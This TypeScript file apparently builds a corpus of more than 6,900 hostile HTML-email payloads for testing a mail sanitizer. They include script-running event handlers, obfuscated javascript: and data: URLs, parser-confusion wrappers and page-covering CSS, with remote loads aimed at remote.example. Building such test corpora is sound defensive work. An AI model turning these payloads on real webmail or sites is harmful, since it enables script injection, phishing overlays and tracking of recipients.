// HTML that a stranger may send in a mail in order to run a script, load something, cover the page or leave it. Made by rule, from what each
// attack is built of: more than 6,900 of them. Whatever runs calls RUN; whatever loads asks a host under REMOTE.

const RUN = "top.hit(1)";
const REMOTE = "remote.example";

const TAGS =
  "img src=x|svg|body|input autofocus|details open|video src=x|audio src=x|marquee|iframe|object data=x|embed src=x|a href=x autofocus|div|table|td|button autofocus|select autofocus|textarea autofocus|style|link rel=stylesheet href=x|math|form|custom-tag tabindex=0 autofocus|b|p|font|center|section contenteditable|h1|blockquote|ul|svg><animate attributename=x dur=1s|svg><set attributename=x|video><source src=x|picture><img src=x|keygen autofocus|image src=x|isindex|frameset|meter".split(
    "|",
  );
const EVENTS =
  "error load click mouseover focus toggle start animationstart pointerenter begin end repeat resize copy scroll wheel loadstart canplay beforetoggle scrollend transitionend pageshow hashchange message submit input focusin unload finish auxclick beforematch securitypolicyviolation".split(
    " ",
  );
const SPELLINGS: ((tag: string, event: string) => string)[] = [
  (tag, event) => `<${tag} on${event}=${RUN}>x`,
  (tag, event) => `<${tag.replaceAll(" ", "/")}/on${event}="${RUN}"//>x`,
  (tag, event) => `<${tag.toUpperCase()}\n\tON${event.toUpperCase()} = '${entities(RUN)}'>x`,
  (tag, event) => `<${tag} "on${event}="" x=">" on${event}\r=\r${RUN}>x`,
];
const entities = (text: string) => Array.from(text, (letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join("");

const handlers = () => EVENTS.flatMap((event) => TAGS.flatMap((tag) => SPELLINGS.map((spell) => spell(tag, event))));

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `java&Tab;script&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript&#58;${RUN}`,
  `javascript://x.example/%0a${RUN}`,
  `javascript:/*--></title></style></textarea></script>*/${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${RUN}</script>`).toString("base64")}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `view-source:javascript:${RUN}`,
  `blob:https://${REMOTE}/x`,
  `feed:javascript:${RUN}`,
  `//${REMOTE}/a`,
  `/\t/${REMOTE}/a`,
  `http:${REMOTE}/a`,
  `ftp://${REMOTE}/a`,
  `https://${REMOTE}/a"onerror="${RUN}`,
  `\\\\${REMOTE}\\a`,
  `https://${REMOTE}/a`,
];
const CARRIERS: ((url: string) => string)[] = [
  (url) => `<a href="${url}" autofocus>x</a>`,
  (url) => `<a href=${url.replaceAll(/\s/g, "&#9;")}>x</a>`,
  (url) => `<area href="${url}">`,
  (url) => `<map name=m><area shape=default href="${url}"></map><img usemap=#m>`,
  (url) => `<img src="${url}">`,
  (url) => `<img srcset="${url} 1x, ${url} 2x">`,
  (url) => `<img dynsrc="${url}" lowsrc="${url}">`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<frameset><frame src="${url}"></frameset>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<form action="${url}"><input type=submit autofocus></form>`,
  (url) => `<button formaction="${url}">x</button>`,
  (url) => `<base href="${url}"><a href=x>x</a><img src=y>`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<link rel=stylesheet href="${url}">`,
  (url) => `<link rel=preload as=image href="${url}">`,
  (url) => `<script src="${url}"></script>`,
  (url) => `<video poster="${url}"><source src="${url}"></video>`,
  (url) => `<audio src="${url}" autoplay></audio>`,
  (url) => `<body background="${url}">x`,
  (url) => `<table background="${url}"><td background="${url}">x`,
  (url) => `<svg><a xlink:href="${url}"><text y=20>x</text></a><image href="${url}" xlink:href="${url}"/><use href="${url}#x"/></svg>`,
  (url) => `<math href="${url}"><mtext>x</mtext></math>`,
  (url) => `<div style="background:url('${url}')">x</div>`,
  (url) => `<div style="background-image:image-set('${url}' 1x)">x</div>`,
  (url) => `<div style="list-style:url(${url});content:url(${url});cursor:url(${url}),auto">x</div>`,
  (url) => `<style>@import url("${url}");body{background:url("${url}")}</style>`,
  (url) => `<style>@font-face{font-family:f;src:url("${url}")}*{font-family:f}</style>x`,
  (url) => `<a ping="${url}" href="${url}" target=_top>x</a>`,
  (url) => `<blockquote cite="${url}">x</blockquote>`,
  (url) => `<input type=image src="${url}" formaction="${url}">`,
  (url) => `<portal src="${url}"></portal><applet code="${url}"></applet><bgsound src="${url}">`,
];
const addresses = () => SCHEMES.flatMap((url) => CARRIERS.map((carry) => carry(url)));

const INNER = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<style><img src=x onerror=${RUN}></style>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<img title="--><img src=x onerror=${RUN}>">`,
  `<a title="</style><img src=x onerror=${RUN}>">x</a>`,
  `<p id="</title><script>${RUN}</script>">x</p>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<svg><script>${RUN}</script></svg>`,
  `<script\n>${RUN}</script\n>`,
  `<img src="x\\" onerror=${RUN}>`,
];
/** Places in which a browser reads the same letters differently from a parser of another make. */
const PLACES: ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `<noscript><p title="</noscript>${inner}"></noscript>`,
  (inner) => `<xmp>${inner}</xmp>`,
  (inner) => `<noembed>${inner}</noembed>`,
  (inner) => `<noframes>${inner}</noframes>`,
  (inner) => `<plaintext>${inner}`,
  (inner) => `<title>${inner}</title>`,
  (inner) => `<title></title >${inner}`,
  (inner) => `<textarea></textarea >${inner}`,
  (inner) => `<style></style >${inner}`,
  (inner) => `<script></script >${inner}`,
  (inner) => `<template>${inner}</template>`,
  (inner) => `<select><option>${inner}</option></select>`,
  (inner) => `<svg><desc>${inner}</desc></svg>`,
  (inner) => `<svg><foreignObject>${inner}</foreignObject></svg>`,
  (inner) => `<svg></p><style><a id="</style>${inner}">`,
  (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}`,
  (inner) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  (inner) => `<math><annotation-xml encoding="text/html">${inner}</annotation-xml></math>`,
  (inner) => `<math><mi>${inner}</mi></math>`,
  (inner) => `<!--[if mso]>${inner}<![endif]-->`,
  (inner) => `<!--[if !mso]><!-->${inner}<!--<![endif]-->`,
  (inner) => `<!-->${inner}-->`,
  (inner) => `<!--->${inner}-->`,
  (inner) => `<!-- --!>${inner}-->`,
  (inner) => `<![CDATA[${inner}]]>`,
  (inner) => `<svg><![CDATA[${inner}]]></svg>`,
  (inner) => `<?xml version="1.0"?>${inner}`,
  (inner) => `<!DOCTYPE html [<!ENTITY x "y">]>${inner}`,
  (inner) => `<div>${"<div>".repeat(600)}${inner}`,
  (inner) => `<table><tr><td><table>${inner}`,
  (inner) => `<a href="${inner}">x</a>`,
  (inner) => `<img alt='${inner}'>`,
  (inner) => `<p title=\`${inner}\`>`,
  (inner) => `<b ${inner}>`,
  (inner) => `<b x="'>${inner}`,
  (inner) => `<o:p>${inner}</o:p>`,
  (inner) => `</p>${inner}`,
  (inner) => `<br/${inner}`,
  (inner) => `\u0000<\u0000b>${inner}`,
  (inner) => `<scr<script>ipt>${inner}</scr</script>ipt>`,
  (inner) => inner.replaceAll("<", "<<"),
  (inner) => inner.replaceAll(">", " >").replaceAll("=", " = "),
  (inner) => inner.replaceAll("<", "<\u0000"),
  (inner) => inner.toUpperCase().replace(RUN.toUpperCase(), RUN),
];
const misread = () => PLACES.flatMap((place) => INNER.map(place));

const POSITIONS = [
  "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999",
  "position:absolute;inset:0",
  "position:sticky;top:0",
  "position:relative;top:-500px",
  "POSITION : FIXED",
  "position:fixed!important",
  "po\\73ition:fixed",
  "position:/**/fixed",
  "/*x*/position:fixed",
  "color:red;position:fixed;color:blue",
  "color:expression(x);position:absolute",
  "-x:';position:fixed;'",
  "--a:fixed;position:var(--a)",
  "color:red}*{position:fixed",
  "background:red;;position:fixed",
  "position:fixed\u0000",
];
const POSITIONED_TAGS = ["div", "p", "span", "table", "td", "a href=https://x.example", "img src=cid:x", "center", "h1", "font"];
const POSITION_SPELLINGS: ((tag: string, style: string) => string)[] = [
  (tag, style) => `<${tag} style="${style}">cover</${tag.split(" ")[0]}>`,
  (tag, style) => `<${tag.toUpperCase()} STYLE='${style}'>cover`,
  (tag, style) => `<${tag} style="${entities(style)}">cover`,
  (tag, style) => `<style>${tag.split(" ")[0]}{${style}}</style><${tag} class=c id=c>cover`,
];
const positioned = () =>
  POSITIONS.flatMap((style) => POSITIONED_TAGS.flatMap((tag) => POSITION_SPELLINGS.map((spell) => spell(tag, style))));

/** Every payload by the way it attacks. */
const groups = () => ({ misread: misread(), addresses: addresses(), positioned: positioned(), handlers: handlers() });

/** All of them, or those that are quick to try: the small groups more densely, because most of what runs by itself is in them. */
export function mailPayloads(size: "all" | "sample"): string[] {
  const all = groups();
  const every = (list: string[], step: number) => list.filter((_, at) => size === "all" || at % step === 0);
  return [...new Set([...every(all.misread, 2), ...every(all.addresses, 17), ...every(all.positioned, 23), ...every(all.handlers, 67)])];
}
